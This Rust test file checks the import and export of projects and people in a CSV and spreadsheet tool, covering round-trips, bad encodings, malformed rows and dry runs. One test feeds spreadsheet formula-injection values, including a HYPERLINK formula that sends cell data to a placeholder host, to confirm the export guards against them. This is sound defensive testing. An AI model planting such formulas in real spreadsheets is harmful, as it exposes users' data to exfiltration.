//! `spm project import` and `spm person import`.

use crate::common::{Env, explain, read_csv};

/// Writes `bytes` to `name` in the test folder and returns its path as text.
fn file(env: &Env, name: &str, bytes: impl AsRef<[u8]>) -> String {
    let path = env.path(name);
    std::fs::write(&path, bytes).expect("the test file is written");
    path.to_string_lossy().into_owned()
}

/// `spm --format csv NOUN list`, without the columns a fresh database sets itself (ids and
/// timestamps), so two databases can be compared.
fn listed(env: &Env, noun: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let (header, rows) = read_csv(&env.ok(&["--format", "csv", noun, "list"]));
    let keep: Vec<usize> = header
        .iter()
        .enumerate()
        .filter(|(_, h)| !matches!(h.as_str(), "id" | "created_at" | "updated_at"))
        .map(|(i, _)| i)
        .collect();
    let pick = |row: &Vec<String>| keep.iter().map(|&i| row[i].clone()).collect::<Vec<_>>();
    (pick(&header), rows.iter().map(pick).collect())
}

/// Runs an import that must fail with exit 65: one summary line first (naming the file),
/// each problem after it, nothing on stdout, and the database as it was. Returns stderr.
fn refused(env: &Env, args: &[&str], needles: &[&str]) -> String {
    let before = env.dump();
    let out = env.run(args);
    if out.status.code() != Some(65) {
        panic!("{}", explain(args, &out, "to exit 65"));
    }
    let stderr = String::from_utf8(out.stderr).expect("stderr is UTF-8");
    assert!(stderr.starts_with("error: "), "spm {args:?}: {stderr}");
    assert!(
        stderr
            .lines()
            .next()
            .is_some_and(|l| l.contains("nothing was imported")),
        "spm {args:?}: the first line should sum it up: {stderr}"
    );
    for needle in needles {
        assert!(
            stderr.contains(needle),
            "spm {args:?}: expected {needle:?} in:\n{stderr}"
        );
    }
    assert!(out.stdout.is_empty(), "spm {args:?} wrote to stdout");
    assert_eq!(before, env.dump(), "spm {args:?} changed the database");
    stderr
}

/// A fresh database refuses the file `bytes` (written as `name`) with exit 65 and `needles`
/// in the message, and one line for one problem.
fn bad_project_file(name: &str, bytes: impl AsRef<[u8]>, needles: &[&str]) -> String {
    let env = Env::fresh();
    let path = file(&env, name, bytes);
    let stderr = refused(&env, &["project", "import", &path], needles);
    assert!(
        stderr.contains(name),
        "the message names the file: {stderr}"
    );
    stderr
}

const HEADER: &str = "code,title,form,level_planned";

#[test]
fn an_exported_csv_imports_back_unchanged() {
    let demo = Env::demo();
    let projects = demo.ok(&["--format", "csv", "project", "list"]);
    let people = demo.ok(&["--format", "csv", "person", "list"]);
    let env = Env::fresh();
    // People first, so the projects' leads are found by name, as they would be by --lead.
    let q = file(&env, "people.csv", &people);
    let out = env.run_ok(&["person", "import", &q]);
    assert!(out.stdout.is_empty(), "nothing on stdout");
    let people_note = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(people_note.contains("imported people.csv"), "{people_note}");
    let p = file(&env, "projects.csv", &projects);
    let note = String::from_utf8_lossy(&env.run_ok(&["project", "import", &p]).stderr).to_string();
    assert!(note.contains("imported projects.csv"), "{note}");
    assert!(
        !note.contains("as lead"),
        "every lead is a person already: {note}"
    );
    assert_eq!(listed(&demo, "project"), listed(&env, "project"));
    let (header, mut want) = listed(&demo, "person");
    let erased = header.iter().position(|h| h == "erased_on").unwrap_or(0);
    let before = want.len();
    want.retain(|r| r[erased].is_empty());
    assert_eq!(
        want.len() < before,
        people_note.contains("forgotten, skipped"),
        "{people_note}"
    );
    assert_eq!(listed(&env, "person"), (header, want));
}

#[test]
fn leads_registered_by_a_project_import_are_said_and_matched_later() {
    let demo = Env::demo();
    let projects = demo.ok(&["--format", "csv", "project", "list"]);
    let people = demo.ok(&["--format", "csv", "person", "list"]);
    let env = Env::fresh();
    let p = file(&env, "projects.csv", &projects);
    let note = String::from_utf8_lossy(&env.run_ok(&["project", "import", &p]).stderr).to_string();
    assert!(
        note.contains("as leads ("),
        "leads are registered and said: {note}"
    );
    assert_eq!(listed(&demo, "project"), listed(&env, "project"));
    // Importing the people then finds each lead by name and kind, and --update fills in the
    // rest of their record instead of making them twice.
    let q = file(&env, "people.csv", &people);
    env.run_ok(&["person", "import", &q, "--update"]);
    let (header, mut want) = listed(&demo, "person");
    let erased = header.iter().position(|h| h == "erased_on").unwrap_or(0);
    want.retain(|r| r[erased].is_empty());
    assert_eq!(listed(&env, "person"), (header, want));
}

#[test]
fn an_exported_workbook_imports_back_unchanged() {
    let demo = Env::demo();
    demo.ok(&["--format", "xlsx", "-o", "projects.xlsx", "project", "list"]);
    demo.ok(&["--format", "xlsx", "-o", "people.xlsx", "person", "list"]);
    let env = Env::fresh();
    for (noun, name) in [("person", "people.xlsx"), ("project", "projects.xlsx")] {
        let bytes = std::fs::read(demo.path(name)).expect("the workbook");
        let path = file(&env, name, bytes);
        env.run_ok(&[noun, "import", &path]);
    }
    assert_eq!(listed(&demo, "project"), listed(&env, "project"));
    let (_, got) = listed(&env, "person");
    let (header, want) = listed(&demo, "person");
    let erased = header.iter().position(|h| h == "erased_on").unwrap_or(0);
    for row in want.iter().filter(|r| r[erased].is_empty()) {
        assert!(
            got.contains(row),
            "{row:?} was not imported from the workbook"
        );
    }
}

#[test]
fn formula_cells_round_trip_as_text() {
    let env = Env::fresh();
    for title in [
        "=1+2",
        "@SUM(A1)",
        "+44 20 7946 0000",
        "-5",
        "=HYPERLINK(\"http://x/?\"&A1)",
    ] {
        env.ok(&[
            "project",
            "add",
            "--form",
            "educational-research",
            "--level",
            "partnership",
            "--summary",
            "\t=cmd",
            "--",
            title,
        ]);
    }
    let csv = env.ok(&["--format", "csv", "project", "list"]);
    assert!(csv.contains("'=1+2"), "the export guards formulas: {csv}");
    env.ok(&["--format", "xlsx", "-o", "p.xlsx", "project", "list"]);
    for name in ["p.csv", "p.xlsx"] {
        let other = Env::fresh();
        let path = match name {
            "p.csv" => file(&other, name, &csv),
            _ => file(
                &other,
                name,
                std::fs::read(env.path(name)).expect("the workbook"),
            ),
        };
        other.run_ok(&["project", "import", &path]);
        assert_eq!(listed(&env, "project"), listed(&other, "project"), "{name}");
        let titles: Vec<String> = other
            .list("project", &[])
            .iter()
            .map(|p| p["title"].as_str().unwrap_or_default().to_string())
            .collect();
        assert!(titles.contains(&"=1+2".to_string()), "{titles:?}");
        assert!(titles.contains(&"@SUM(A1)".to_string()), "{titles:?}");
    }
}

#[test]
fn importing_again_does_not_duplicate_and_update_overwrites() {
    let env = Env::fresh();
    let body = format!(
        "{HEADER},status,start_date\na-2025,First,educational-research,partnership,active,2025-10-01\nb-2025,Second,educational-research,consultation,,\n"
    );
    let path = file(&env, "p.csv", &body);
    env.run_ok(&["project", "import", &path]);
    let before = env.dump();
    let out = env.run_ok(&["project", "import", &path]);
    let note = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(
        note.contains("added 0 projects") && note.contains("2 already registered"),
        "{note}"
    );
    assert_eq!(before, env.dump(), "importing again changes nothing");

    let changed = body.replace(
        "Second,educational-research,consultation,,",
        "\"Second, renamed\",educational-research,involvement,active,2025-11-01",
    );
    let path = file(&env, "p.csv", &changed);
    let out = env.run_ok(&["project", "import", &path, "--update"]);
    let note = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(
        note.contains("updated 1") && note.contains("1 unchanged"),
        "{note}"
    );
    let b = env.show("project", "b-2025");
    assert_eq!(b["title"], "Second, renamed");
    assert_eq!(b["level_planned"], "involvement");
    assert_eq!(b["status"], "active");
    assert_eq!(env.codes("project", &[]), vec!["a-2025", "b-2025"]);
    let history = env.show("project", "b-2025")["history"].to_string();
    assert!(
        history.contains("Second, renamed"),
        "the change is logged: {history}"
    );
}

#[test]
fn a_dry_run_says_what_would_happen_and_writes_nothing() {
    let env = Env::fresh();
    let path = file(
        &env,
        "p.csv",
        format!("{HEADER},lead\nx-1,One,educational-research,partnership,Dr New Person\n"),
    );
    let before = env.dump();
    let out = env.run_ok(&["project", "import", &path, "--dry-run"]);
    let note = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(note.contains("would add 1 project"), "{note}");
    assert!(
        note.contains("would register 1 member of staff as a lead (Dr New Person)"),
        "{note}"
    );
    assert!(note.contains("nothing was changed"), "{note}");
    assert_eq!(before, env.dump(), "a dry run writes nothing");
    // A dry run of a bad file fails as the real import would.
    let bad = file(
        &env,
        "bad.csv",
        format!("{HEADER}\nx-1,One,nowhere,partnership\n"),
    );
    refused(
        &env,
        &["project", "import", &bad, "--dry-run"],
        &["line 2, column C (form)"],
    );
}

#[test]
fn aliases_semicolons_a_bom_and_cr_line_endings_read() {
    let env = Env::fresh();
    let body = "\u{feff}\"Code\";Title;Form;Level;Dept;Staff lead;Year;Start;Themes;Budget\r\
                x-1;Café culture;educational-research;Partnership;Économie;Dr A. Khan;2025/26;2025-10-01;wellbeing; belonging;\"2,500.50\"\r\
                x-2;\"Two; with semicolon\";wider-student-experience;student-led;;;2025-26;;;\r";
    let path = file(&env, "europe.csv", body);
    let err = env.run(&["project", "import", &path]);
    // "wellbeing; belonging" is unquoted with ';' as the delimiter: a ragged row, reported.
    assert_eq!(
        err.status.code(),
        Some(65),
        "{}",
        explain(&[], &err, "to exit 65")
    );
    let body = body.replace("wellbeing; belonging", "\"wellbeing; belonging\"");
    let path = file(&env, "europe.csv", body);
    env.run_ok(&["project", "import", &path]);
    let x1 = env.show("project", "x-1");
    assert_eq!(x1["title"], "Café culture");
    assert_eq!(x1["department"], "Économie");
    assert_eq!(x1["lead"], "Dr A. Khan");
    assert_eq!(x1["budget"], 2500.5);
    assert_eq!(x1["themes"], serde_json::json!(["belonging", "wellbeing"]));
    assert_eq!(x1["start_date"], "2025-10-01");
    let x2 = env.show("project", "x-2");
    assert_eq!(x2["title"], "Two; with semicolon");
    assert_eq!(x2["academic_year"], "2025/26");
}

#[test]
fn a_field_holding_crlf_and_mixed_line_endings_read() {
    let env = Env::fresh();
    let body = format!(
        "{HEADER},summary\r\nm-1,One,educational-research,partnership,\"two\r\nlines\"\nm-2,Two,educational-research,partnership,x\rm-3,Three,educational-research,partnership,y"
    );
    let path = file(&env, "mixed.csv", body);
    env.run_ok(&["project", "import", &path]);
    assert_eq!(env.codes("project", &[]), vec!["m-1", "m-2", "m-3"]);
    assert_eq!(env.show("project", "m-1")["summary"], "two\nlines");
}

#[test]
fn every_bad_file_is_refused_with_its_line() {
    bad_project_file("empty.csv", "", &["empty.csv, line 1:", "empty"]);
    bad_project_file("bom.csv", "\u{feff}", &["line 1", "byte order mark"]);
    bad_project_file("header.csv", format!("{HEADER}\n"), &["line 1", "no rows"]);
    bad_project_file(
        "utf16.csv",
        b"\xFF\xFEc\0o\0d\0e\0\n\0",
        &["line 1", "UTF-16", "CSV UTF-8"],
    );
    bad_project_file(
        "cp1252.csv",
        [
            format!("{HEADER}\nx-1,Caf").as_bytes(),
            b"\xE9,educational-research,partnership\n",
        ]
        .concat(),
        &["line 2, column B (title)", "not UTF-8", "'é'", "CSV UTF-8"],
    );
    bad_project_file(
        "invalid.csv",
        [
            format!("{HEADER}\nx-1,").as_bytes(),
            b"\xC3\x28,educational-research,partnership\n",
        ]
        .concat(),
        &["line 2, column B (title)", "not UTF-8"],
    );
    bad_project_file(
        "ragged.csv",
        format!(
            "{HEADER}\nx-1,One,educational-research,partnership\nx-2,Two,educational-research\n"
        ),
        &["line 3:", "3 fields but the header has 4"],
    );
    bad_project_file(
        "quote.csv",
        format!(
            "{HEADER}\nx-1,\"One,educational-research,partnership\nx-2,Two,educational-research,partnership\n"
        ),
        &["line 2, column B (title)", "closing quote"],
    );
    bad_project_file(
        "dup.csv",
        format!("{HEADER},Title \nx-1,One,educational-research,partnership,Again\n"),
        &["line 1, column E (Title)", "means title again"],
    );
    bad_project_file(
        "unknown.csv",
        format!("{HEADER},colour\nx-1,One,educational-research,partnership,red\n"),
        &["line 1, column E (colour)", "unknown column \"colour\""],
    );
    bad_project_file(
        "missing.csv",
        "code,title\nx-1,One\n",
        &["line 1", "no column for form, level_planned"],
    );
    let mut binary = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0".to_vec();
    binary.extend((0u8..=255).cycle().take(4000));
    bad_project_file("picture.csv", binary, &["line 1", "not text", "binary"]);
    let mut huge =
        format!("{HEADER},summary\nx-1,One,educational-research,partnership,").into_bytes();
    huge.extend(std::iter::repeat_n(b'x', 10 << 20));
    huge.push(b'\n');
    bad_project_file(
        "huge.csv",
        huge,
        &["line 2, column E (summary)", "longer than 1 MB"],
    );
    bad_project_file(
        "nul.csv",
        format!("{HEADER}\nx-1,O\0ne,educational-research,partnership\n"),
        &["line 2, column B (title)", "NUL"],
    );
    bad_project_file(
        "xls.csv",
        b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1\0\0\0\0\0\0\0\0",
        &["line 1", ".xls"],
    );
}

#[test]
fn bad_values_are_refused_with_line_and_column() {
    bad_project_file(
        "dates.csv",
        format!("{HEADER},start_date\nx-1,One,educational-research,partnership,1/2/03\n"),
        &["line 2, column E (start_date)", "YYYY-MM-DD"],
    );
    bad_project_file(
        "feb.csv",
        format!("{HEADER},end_date\nx-1,One,educational-research,partnership,2024-02-30\n"),
        &["line 2, column E (end_date)", "YYYY-MM-DD"],
    );
    bad_project_file(
        "required.csv",
        format!("{HEADER}\nx-1,,educational-research,partnership\n"),
        &["line 2, column B (title)", "needs a title"],
    );
    bad_project_file(
        "twice.csv",
        format!(
            "{HEADER}\nx-1,One,educational-research,partnership\nX-1,Again,educational-research,partnership\n"
        ),
        &["line 3, column A (code)", "on line 2 already"],
    );
}

#[test]
fn every_problem_is_listed_up_to_fifty() {
    let env = Env::fresh();
    let mut body = format!("{HEADER},budget\n");
    body.push_str("ok-1,Fine,educational-research,partnership,10\n");
    body.push_str("x-0,,nowhere,partnership,-5\n");
    for i in 1..60 {
        body.push_str(&format!(
            "x-{i},Row {i},educational-research,partnership,lots\n"
        ));
    }
    let path = file(&env, "many.csv", body);
    let stderr = refused(
        &env,
        &["project", "import", &path],
        &[
            "error: many.csv has 62 errors; nothing was imported",
            "line 3, column B (title): a project needs a title\n  line 3, column C (form): unknown form \"nowhere\"",
            "line 3, column E (budget)",
            "line 4, column E (budget)",
            "... and 12 more",
        ],
    );
    assert_eq!(stderr.lines().count(), 1 + 50 + 1, "{stderr}");
    assert_eq!(env.codes("project", &[]), Vec::<String>::new());
}

#[test]
fn people_import_matches_on_email_and_updates_on_request() {
    let env = Env::fresh();
    let body = "Name,E-mail,Type,Dept,Level of study,Consent\n\
                Amira Hassan,a.hassan@example.ac.uk,student,Economics,ug,2025-10-01\n\
                Dr A. Khan,,staff,,,\n";
    let path = file(&env, "people.csv", body);
    env.run_ok(&["person", "import", &path]);
    let before = env.dump();
    let note =
        String::from_utf8_lossy(&env.run_ok(&["person", "import", &path]).stderr).to_string();
    assert!(
        note.contains("added 0 people") && note.contains("2 already registered"),
        "{note}"
    );
    assert_eq!(before, env.dump());
    let changed = body
        .replace("Economics,ug", "History,pgt")
        .replace("A.HASSAN", "");
    let path = file(&env, "people.csv", changed);
    let note =
        String::from_utf8_lossy(&env.run_ok(&["person", "import", &path, "--update"]).stderr)
            .to_string();
    assert!(
        note.contains("updated 1") && note.contains("1 unchanged"),
        "{note}"
    );
    let amira = env.show("person", "a.hassan@example.ac.uk");
    assert_eq!(amira["department"], "History");
    assert_eq!(amira["level"], "pgt");
    let bad = file(
        &env,
        "bad.csv",
        "name,email,kind\nA,not-an-email,student\nB,b@example.ac.uk,wizard\nC,b@example.ac.uk,staff\n",
    );
    refused(
        &env,
        &["person", "import", &bad],
        &[
            "bad.csv has 3 errors",
            "line 2, column B (email)",
            "line 3, column C (kind): unknown person kind \"wizard\"",
            "line 4, column B (email): b@example.ac.uk is on line 3 already",
        ],
    );
}

#[test]
fn a_missing_file_or_sheet_is_a_clear_error() {
    let env = Env::fresh();
    let stderr = env.fails_unchanged(&["project", "import", "nowhere.csv"], 66);
    assert!(stderr.contains("nowhere.csv"), "{stderr}");
    env.ok(&["--format", "xlsx", "-o", "p.xlsx", "project", "list"]);
    let path = env.path("p.xlsx").to_string_lossy().into_owned();
    refused(
        &env,
        &["project", "import", &path, "--sheet", "nope"],
        &["no sheet \"nope\""],
    );
}

#[test]
fn a_project_on_two_rows_is_refused_naming_both_lines() {
    let env = Env::demo();
    let row = |code: &str| format!("{code},A project,educational-research,partnership\n");
    let mut body = format!("{HEADER}\n");
    // Lines 2 and 3: the first is still waiting to be written when the second is read.
    body.push_str(&row("twice-near"));
    body.push_str(&row("twice-near"));
    // Line 4, then 100 other projects, then line 105: the first was written long before.
    body.push_str(&row("twice-far"));
    for i in 0..100 {
        body.push_str(&row(&format!("filler-{i}")));
    }
    body.push_str(&row("twice-far"));
    // A project the demo has, matched on line 106 and again on line 107 (in capitals).
    let (_, rows) = listed(&env, "project");
    let known = rows[0][0].clone();
    body.push_str(&row(&known));
    body.push_str(&row(&known.to_uppercase()));
    let path = file(&env, "twice.csv", body);
    refused(
        &env,
        &["project", "import", &path],
        &[
            "twice.csv has 3 errors",
            "line 3, column A (code): project twice-near is on line 2 already",
            "line 105, column A (code): project twice-far is on line 4 already",
            &format!("line 107, column A (code): project {known} is on line 106 already"),
        ],
    );
}

#[test]
fn an_import_that_writes_nothing_leaves_no_new_database() {
    let env = Env::fresh();
    let good = file(
        &env,
        "good.csv",
        format!("{HEADER}\nnew-one,A project,educational-research,partnership\n"),
    );
    let bad = file(
        &env,
        "bad.csv",
        format!("{HEADER}\nnew-one,,lecture,partnership\n"),
    );
    let new = env.path("new.db");
    let db = new.to_string_lossy().into_owned();
    for (noun, path, extra) in [
        ("project", &bad, None),
        ("project", &good, Some("--dry-run")),
        ("person", &bad, None),
    ] {
        let mut args = vec!["--db", &db, noun, "import", path];
        args.extend(extra);
        let out = env.run(&args);
        assert_eq!(out.status.success(), extra.is_some(), "{args:?}");
        assert!(!new.exists(), "spm {args:?} left {db} behind");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("created a new database"), "{stderr}");
    }
    let out = env.run(&["--db", &db, "project", "import", &good]);
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("created a new database") && stderr.contains("added 1 project"),
        "{stderr}"
    );
    assert!(new.exists());
}

#[test]
fn the_change_log_names_the_file_and_line_a_project_came_from() {
    let env = Env::fresh();
    // The summary over two lines puts the second project on line 4; the third has no code.
    let path = file(
        &env,
        "projects.csv",
        "code,title,summary,form,level_planned\n\
         a-1,First,\"two\nlines\",educational-research,involvement\n\
         b-2,Second,,educational-research,involvement\n\
         ,Third,,educational-research,involvement\n",
    );
    env.run_ok(&["project", "import", &path]);
    let shown = env.ok(&["project", "show", "b-2"]);
    assert!(
        shown.contains("imported from projects.csv, line 4"),
        "{shown}"
    );
    let p = crate::common::json(&env.ok(&["--format", "json", "project", "show", "third-2026"]));
    let history = p["history"].as_array().expect("a history array");
    assert_eq!(history.len(), 1, "{p}");
    assert_eq!(history[0]["action"], "insert");
    assert_eq!(
        history[0]["fields"],
        serde_json::json!({ "imported_from": "projects.csv", "line": 5 })
    );
    // A project added by hand still logs its values.
    env.run_ok(&[
        "project",
        "add",
        "By hand",
        "--form",
        "educational-research",
        "--level",
        "involvement",
        "--code",
        "c-3",
    ]);
    let p = crate::common::json(&env.ok(&["--format", "json", "project", "show", "c-3"]));
    assert_eq!(p["history"][0]["fields"]["title"], "By hand", "{p}");
}

#[test]
fn rows_without_a_code_match_on_title_and_year_when_imported_again() {
    let env = Env::fresh();
    // Two projects share a title in 2025/26; one has it in 2024/25; case and spaces differ.
    let first = file(
        &env,
        "sheet.csv",
        "title,form,level_planned,academic_year,department\n\
         Peer mentoring,educational-research,involvement,2025/26,History\n\
         Peer mentoring,educational-research,involvement,2025/26,Physics\n\
         Peer mentoring,educational-research,involvement,2024/25,History\n\
         Module feedback,educational-research,consultation,2025/26,\n",
    );
    let out = env.run_ok(&["project", "import", &first]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("added 4 projects"),
        "{out:?}"
    );
    let before = env.dump();
    env.run_ok(&["project", "import", &first]);
    assert_eq!(before, env.dump(), "a second import adds nothing");
    // --update matches each row to the project its line made the first time.
    let again = file(
        &env,
        "again.csv",
        "title,form,level_planned,academic_year,department\n\
         PEER MENTORING ,educational-research,partnership,2025/26,History\n\
         peer mentoring,educational-research,involvement,2025/26,Chemistry\n\
         Peer mentoring,educational-research,involvement,2025/26,Maths\n",
    );
    let out = env.run_ok(&["project", "import", &again, "--update"]);
    let note = String::from_utf8_lossy(&out.stderr).to_string();
    assert!(note.contains("added 1 project"), "{note}");
    let (header, rows) =
        read_csv(&env.ok(&["--format", "csv", "project", "list", "--year", "2025/26"]));
    let at = |name: &str| header.iter().position(|h| h == name).expect(name);
    let mut seen: Vec<(String, String)> = rows
        .iter()
        .map(|r| (r[at("department")].clone(), r[at("level_planned")].clone()))
        .collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            ("", "consultation"),
            ("Chemistry", "involvement"),
            ("History", "partnership"),
            ("Maths", "involvement"),
        ]
        .map(|(a, b)| (a.to_string(), b.to_string()))
    );
    // The 2024/25 project was not touched.
    let old = env.ok(&["--format", "csv", "project", "list", "--year", "2024/25"]);
    assert!(old.contains("History"), "{old}");
}

// Files made to attack the terminal, or flood it.
mod continues;
mod hostile;
